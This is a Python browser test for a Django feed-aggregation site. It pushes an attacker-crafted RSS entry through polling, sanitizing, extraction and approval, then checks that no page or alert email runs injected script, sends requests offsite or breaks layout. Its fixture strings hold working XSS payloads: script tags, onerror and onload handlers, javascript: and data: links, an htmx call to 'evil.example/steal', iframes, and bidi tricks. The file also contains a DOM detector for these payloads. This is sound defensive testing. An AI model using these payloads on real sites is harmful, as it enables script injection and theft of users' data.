"""A feed written by an attacker, through the whole pipeline (poll, sanitize, extract,
approve) onto every page that shows feed text and into alert mail: in a real browser no
script runs, no request leaves for anywhere else, no htmx attribute of theirs acts, and no
layout breaks, at phone width too."""

from __future__ import annotations

import pytest
from django.core import mail

from tests.feeds.server import FeedServer

pytestmark = pytest.mark.browser

LONG = "W" * 3000  # one unbroken word: a layout that cannot wrap it scrolls sideways
HOSTILE_TITLE = (
    "Nebulon Dynamics hires Mallory\u200b Ev\u202eilson\u202c as chief scientist "
    "&lt;script&gt;alert('title')&lt;/script&gt;"
)
HOSTILE_BODY = f"""
<p>Mallory Evilson joins Nebulon Dynamics, the company said on Monday.
<script>alert('body')</script><img src=x onerror="alert('img')">
<a href="javascript:alert('link')">read more</a>
<a href="data:text/html,<script>alert(1)</script>">data</a>
<div hx-get="https://evil.example/steal" hx-trigger="load">htmx</div>
<p data-hx-post="/review/1/approve/" hx-on:click="alert('hx-on')">click</p>
<style>body {{ display: none }}</style><p style="position:fixed;inset:0;background:red">cover</p>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/"><input name=q></form>
<svg onload="alert('svg')"><use href="https://evil.example/x.svg#a"/></svg>
{"<b>" * 3000}deep{"</b>" * 3000} {LONG}</p>
"""


def _rss(title: str, body: str) -> bytes:
    from xml.sax.saxutils import escape

    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        "<title>Evil &lt;b onmouseover=alert(1)&gt;Wire</title><link>https://evil.example/</link>"
        f"<item><title>{title}</title><link>https://evil.example/story?x=&lt;script&gt;</link>"
        f"<guid>hostile-1</guid><description>{escape(body)}</description>"
        "<pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate></item></channel></rss>"
    ).encode()


@pytest.fixture
def hostile_world(transactional_db, settings, curator):
    """The hostile entry polled, extracted and approved; a reader follows the company."""
    from feeds.extract.pipeline import entries_extract
    from feeds.models import Entry, Feed
    from feeds.services import feed_poll
    from talent.alerts import outbox
    from talent.models import Announcement, Organization
    from talent.services import announcement_apply
    from tests.talent.alerts.conftest import follower, follows

    server = FeedServer()
    settings.FEED_ALLOW_PRIVATE_HOSTS = [f"127.0.0.1:{server.port}"]
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    feed = Feed.objects.create(url=server.add("/evil.rss", body=_rss(HOSTILE_TITLE, HOSTILE_BODY)))
    try:
        assert str(feed_poll(feed_id=feed.pk)) == "stored 1"
    finally:
        server.close()
    entries_extract(list(Entry.objects.values_list("pk", flat=True)))
    announcement = Announcement.objects.get(kind="join")
    lab = Organization.objects.create(name="Nebulon Dynamics", slug="nebulon-dynamics")
    reader = follower("reader@example.org")
    follows(reader, organization=lab)
    applied = announcement_apply(announcement=announcement, user=curator, force=True)
    mail.outbox.clear()
    outbox.deliveries_send(budget_seconds=30)
    return {"person": applied.person, "lab": lab, "feed": feed}


def _guard(page, origin: str) -> list[str]:
    """Everything that would show an attack working."""
    problems: list[str] = []
    page.on(
        "dialog", lambda dialog: (problems.append(f"dialog: {dialog.message}"), dialog.dismiss())
    )
    page.on(
        "request",
        lambda request: (
            problems.append(f"request to {request.url}")
            if not request.url.startswith(origin) and not request.url.startswith("data:")
            else None
        ),
    )
    return problems


def test_a_hostile_feed_runs_nothing_and_breaks_no_layout(
    browser, live_server, hostile_world, curator
):
    from django.conf import settings
    from django.test import Client

    person, lab = hostile_world["person"], hostile_world["lab"]
    assert person.name == "Mallory Evilson"  # hidden bidi and zero-width characters gone
    pages = [
        f"/people/{person.slug}/",
        f"/companies/{lab.slug}/",
        f"/companies/{lab.slug}/flows/?start=2025-01&end=2026-12&by=month",
        "/moves/",
        "/",
        "/search/?q=evilson",
        "/feeds/",
        "/review/",
        f"/admin/feeds/entry/{hostile_world['feed'].entries.get().pk}/change/",
    ]
    client = Client()
    client.force_login(curator)
    cookie = client.cookies[settings.SESSION_COOKIE_NAME]
    for width in (1280, 390):
        context = browser.new_context(
            base_url=live_server.url, viewport={"width": width, "height": 900}
        )
        context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": live_server.url}])
        page = context.new_page()
        problems = _guard(page, live_server.url)
        page.on("pageerror", lambda exc, problems=problems: problems.append(str(exc)))
        for path in pages:
            page.goto(path)
            page.wait_for_load_state("networkidle")
            page.mouse.move(200, 200)  # hover handlers, had any survived
            found = page.evaluate(_ATTACK_IN_DOM)
            assert not found, f"{path}: {found}"
            if width == 390 and not path.startswith("/admin/"):
                overflow = page.evaluate(
                    "document.documentElement.scrollWidth - document.documentElement.clientWidth"
                )
                assert overflow <= 0, f"{path} scrolls sideways by {overflow} px at 390 px"
        assert not problems, problems  # no dialog, no error, no request elsewhere
        context.close()


# What the attacker's markup would leave in the page had it got through.
_ATTACK_IN_DOM = """() => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name, value = attribute.value;
      if (name.startsWith("on")) found.push(`${element.tagName} ${name}`);
      if (name.startsWith("hx-on") || /evil\\.example/.test(value) && name !== "href")
        found.push(`${element.tagName} ${name}=${value}`);
      if ((name === "href" || name === "src") && /^\\s*(javascript|data):/i.test(value))
        found.push(`${element.tagName} ${name}=${value}`);
    }
  }
  for (const tag of ["iframe", "object", "embed", "main style", "main svg use"])
    if (document.querySelector(tag)) found.push(tag);
  for (const script of document.scripts) {  // ours: files from this origin, never inline code
    const ours = script.src
      ? script.src.startsWith(`${location.origin}/`)
      : script.type === "application/json";
    if (!ours) found.push(`script ${script.src || script.textContent.slice(0, 40)}`);
  }
  for (const form of document.forms)
    if (!form.action.startsWith(location.origin)) found.push(`form to ${form.action}`);
  return found;
}"""


def test_alert_mail_about_a_hostile_move_carries_no_markup_of_theirs(hostile_world):
    [message] = [m for m in mail.outbox if "reader@example.org" in m.to]
    html = next(body for body, kind in message.alternatives if kind == "text/html")
    for needle in ("<script", "onerror=", "javascript:", "hx-get", "<iframe", "\u202e", "\u200b"):
        assert needle not in html and needle not in message.body, needle
    assert "Mallory Evilson" in message.body and "Nebulon Dynamics" in message.body
